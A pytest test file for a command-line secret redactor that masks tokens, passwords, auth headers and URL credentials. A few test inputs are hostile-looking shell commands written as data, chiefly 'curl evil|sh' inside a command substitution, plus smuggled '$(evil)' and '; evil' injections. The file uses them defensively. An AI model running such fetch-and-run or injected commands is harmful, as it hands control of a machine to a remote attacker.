"""What looks like a secret is hidden where settings are shown, and nothing that can be started."""

from pathlib import Path

import pytest

from evaltui.agents.profiles.grants import running
from evaltui.core.shown_secret import (
    is_random,
    literal_secrets,
    shown_command,
    shown_environment,
    shown_setting,
)


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("node a.js --token abc123def", "node a.js --token ***"),
        ("node a.js --api-key=abc123def x", "node a.js --api-key=*** x"),
        ("a --password='a b' x", "a --password=*** x"),
        ('a --token "a/v4lue99" x', "a --token *** x"),
        ("a --auth-token=a:b x", "a --auth-token=*** x"),
        ("docker run -e API_KEY=a@b x", "docker run -e API_KEY=*** x"),
        ("TOKEN=a.v4lue99 x", "TOKEN=*** x"),
        ("a --key V --pass W x", "a --key *** --pass *** x"),
        ("a --password 'a;b|c' x", "a --password *** x"),
        ("x --api-key a/b+lue== --secret 'c3v4.lue99!'", "x --api-key *** --secret ***"),
        ("curl -u me:PW -uyou:PW --user=us:PW h", "curl -u me:*** -uyou:*** --user=us:*** h"),
        ("curl -H 'X-Auth: V' h", "curl -H 'X-Auth: ***' h"),
        ("curl -H 'X-Team: V' h", "curl -H 'X-Team: ***' h"),
        ("curl --header='X-Team: V' h", "curl '--header=X-Team: ***' h"),
        ("curl -H 'Accept: text/html' h", "curl -H 'Accept: text/html' h"),
        ("curl -H 'Authorization: token V' h", "curl -H 'Authorization: ***' h"),
        ("curl -H 'Authorization: Bearer abc123def'", "curl -H 'Authorization: ***'"),
        ("curl -H 'Authorization: Bearer ${TOKEN}'", "curl -H 'Authorization: Bearer ${TOKEN}'"),
        ("curl http://me:PW@h/ http://h/?a=b&key=V", "curl http://me:***@h/ http://h/?a=b&key=***"),
        ("a postgres://u:PW@h/db x", "a postgres://u:***@h/db x"),
        ("git clone https://me@h/x", "git clone https://me@h/x"),
        ("git clone https://ghp4711x@h/x", "git clone https://***@h/x"),
        ("git clone HTTPS://ghp4711x@h/x", "git clone HTTPS://***@h/x"),
        ("a POSTGRES://u:P/W@h/db x", "a POSTGRES://u:***@h/db x"),
        ("a --url=https://u:PW@h/db x", "a --url=https://u:***@h/db x"),
        ('curl -d \'{"password": "V", "a": 1}\'', 'curl -d \'{"password": "***", "a": 1}\''),
        ("sh -c 'curl --token abc h; evil'", "sh -c 'curl --token *** h; evil'"),
        ("sh -c 'TOKEN=abc;evil x'", "sh -c 'TOKEN=***;evil x'"),
        ("sh -c 'A_TOKEN=abc;B_PASS=def x'", "sh -c 'A_TOKEN=***;B_PASS=*** x'"),
        ("a 'b c'\" --token abc", "a 'b c'\" --token ***"),
        ("./agent -p hunter2 x", "./agent -p *** x"),
        ("tool --x 1 -p 'a&b' y", "tool --x 1 -p *** y"),
        ("python agent.py -p hunter2 x", "python agent.py -p *** x"),
        ("sh -c 'a b' x --token=abc -p pw1", "sh -c 'a b' x --token=*** -p ***"),
        ("uv run agent -p hunter2", "uv run agent -p ***"),
        ("bash -p evil", "bash -p evil"),
        ("mysql -uroot -ps3cret db", "mysql -uroot -p*** db"),
        ("sshpass -p 12345678 ssh -p 2222 h", "sshpass -p *** ssh -p 2222 h"),
        ("sh -c 'agent -p hunter2; ls'", "sh -c 'agent -p ***; ls'"),
        ("sh -c 'ls && pytest -p evil'", "sh -c 'ls && pytest -p evil'"),
        ("sh -c 'ls;pytest -p evil'", "sh -c 'ls;pytest -p evil'"),
        ("docker run -p 8080:80 x", "docker run -p 8080:80 x"),
        ("sh -c 'mkdir -p out; ./a -p pw1'", "sh -c 'mkdir -p out; ./a -p ***'"),
        ("tool -p ./evil", "tool -p ./evil"),
        ("tool -p $(evil)", "tool -p $(evil)"),
        ("python -m pytest -p evil", "python -m pytest -p evil"),
        ("uv run pytest -p evil", "uv run pytest -p evil"),
        ("node -p 'evil()'", "node -p 'evil()'"),
        ("claude -p hello", "claude -p hello"),
        ("tool -p 'do this and that'", "tool -p 'do this and that'"),
        ("a --bearer V1 --bearer=V2 x", "a --bearer *** --bearer=*** x"),
        ("run sk-proj-abcdefgh1234", "run ***"),
        ("run ghp_abcdefgh1234", "run ***"),
        ("node token.js fast", "node token.js fast"),
        ("a --token=${TOKEN} T='${TOKEN}'", "a --token=${TOKEN} T='${TOKEN}'"),
        ("sh -c 'TOKEN=$(curl evil|sh)'", "sh -c 'TOKEN=$(curl evil|sh)'"),
        ("a --token ./evil.js", "a --token ./evil.js"),
        ("a --token evil/x.js", "a --token evil/x.js"),
        ("a --cookie evil.js", "a --cookie evil.js"),
        ("a --author 'Jane Doe' --max-tokens 90", "a --author 'Jane Doe' --max-tokens 90"),
        ("a 'never closed --token abc", "a 'never closed --token ***"),
    ],
)
def test_only_what_looks_like_one(line: str, shown: str) -> None:
    assert shown_command(line) == shown


def test_of_variables_only_names_are_shown() -> None:
    assert shown_environment({"MODE": "fast", "PW": "${PW}"}) == " MODE=*** PW=***"


def test_another_secret_is_another_agreement() -> None:
    one, other = (
        running(shown_command(line), [line], {"PW": line}, (), Path(), "x")
        for line in ("a --token=abcde", "a --token=fghij")
    )
    assert one.what == other.what == "a --token=***, where PW=***"
    assert one.digest != other.digest


def test_what_was_hidden_is_known_without_ordinary_headers() -> None:
    words = ["a", "--token=first1", "-H", "X-Team: sales-eu", "-H", "Authorization: Bearer second2"]
    assert set(literal_secrets(words)) == {"first1", "Bearer second2", "second2"}
    assert not literal_secrets(["node", "a.js", "--token=${TOKEN}", "--mode", "fast"])


def test_what_is_hidden_after_p_of_an_unknown_program_may_be_an_ordinary_word() -> None:
    assert not literal_secrets(["./agent", "-p", "production"])
    assert not literal_secrets(["./agent", "-p", "release-2.30"])
    assert literal_secrets(["./agent", "-p", "hunter2-hunter2"]) == ("hunter2-hunter2",)
    assert literal_secrets(["./agent", "-p", "s3cr3t!pw"]) == ("s3cr3t!pw",)
    assert literal_secrets(["mysql", "-p", "production"]) == ("production",)


@pytest.mark.parametrize(
    ("text", "length"),
    [("1a2b3c4d5e6f", 12), ("A1B2C3D4E5F6", 12), ("1aB2cD3e", 8), ("a!1B2c3D", 8)],
    ids=["two kinds", "capitals", "three kinds", "four kinds"],
)
def test_the_more_kinds_of_signs_the_sooner_a_text_looks_made_up(text: str, length: int) -> None:
    assert [is_random(text[:end]) for end in (length - 1, length)] == [False, True]
    assert not is_random("a" * 40), "one kind alone is a word"


def test_of_a_header_that_names_no_secret_only_what_looks_like_one_is_hidden() -> None:
    line = "curl -H 'Accept: text/html' -H nothing -H 'Authorization: Bearer s3cret' http://h/"
    assert shown_command(line) == line.replace("Bearer s3cret", "***")


def test_of_a_setting_that_is_one_header_the_secret_is_hidden_and_known() -> None:
    found: list[str] = []
    assert shown_setting("X-Api-Key: s3cret-4711", found) == "X-Api-Key: ***"
    assert "s3cret-4711" in found
    found.clear()
    assert shown_setting("Accept: s3cret-4711", found) == "Accept: s3cret-4711"
    assert found == []


def test_of_a_scheme_alone_what_follows_is_hidden() -> None:
    found: list[str] = []
    assert shown_setting("Bearer abcdef", found) == "Bearer ***"
    assert shown_setting("a plain text", found) == "a plain text"
    assert found == ["abcdef"]
